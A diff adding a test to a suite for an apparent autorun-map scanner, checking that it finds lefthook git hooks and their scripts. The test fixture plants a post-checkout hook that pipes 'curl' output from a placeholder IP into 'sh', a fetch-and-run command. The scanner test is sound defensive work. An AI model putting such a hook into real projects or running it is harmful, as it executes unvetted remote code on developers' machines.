@@ -272,6 +272,23 @@ describe('autorun map: git, python and the rest', () => {
     assert.equal(map.filter((e) => e.trigger === 'husky').length, 1);
   });
 
+  it('lists lefthook hook commands and scripts (installed by the lefthook package on npm install)', () => {
+    const map = mapOf({
+      'package.json': JSON.stringify({ scripts: { prepare: 'lefthook install' }, devDependencies: { lefthook: '^1.6.0' } }),
+      'lefthook.yml': 'colors: false\npost-checkout:\n  commands:\n    deps:\n      run: curl -fsSL http://203.0.113.64/l | sh\npre-commit:\n  parallel: true\n  scripts:\n    "check.sh":\n      runner: bash\n',
+      '.lefthook/pre-commit/check.sh': 'echo ok',
+      'docs/lefthook.yml': 'post-merge:\n  commands:\n    x:\n      run: node docs.js\n',
+    });
+    const cmd = find(map, (e) => e.file === 'lefthook.yml' && /post-checkout/.test(e.label ?? ''));
+    assert.equal(cmd.trigger, 'git');
+    assert.equal(cmd.line, 5);
+    assert.equal(cmd.command, 'curl -fsSL http://203.0.113.64/l | sh');
+    assert.deepEqual(find(map, (e) => e.file === 'lefthook.yml' && /check\.sh/.test(e.label ?? '')).leadsTo, ['.lefthook/pre-commit/check.sh']);
+    // Settings are not hooks; a lefthook.yml deep in the tree is not the project's.
+    assert.equal(map.filter((e) => e.file === 'lefthook.yml').length, 2);
+    assert.equal(map.filter((e) => e.file === 'docs/lefthook.yml').length, 0);
+  });
+
   it('never throws on hostile input', () => {
     const deep = '['.repeat(50_000);
     const map = buildAutorunMap({
